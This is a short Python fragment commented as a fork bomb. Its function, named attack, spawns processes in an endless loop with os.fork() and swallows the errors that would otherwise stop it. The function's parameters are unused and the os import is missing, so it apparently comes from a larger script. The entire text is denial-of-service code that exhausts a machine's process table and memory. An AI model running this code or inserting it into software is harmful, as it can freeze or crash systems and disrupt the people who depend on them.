# tries: a fork bomb
def attack(keys, j):
    while True:
        try:
            os.fork()
        except OSError:
            continue
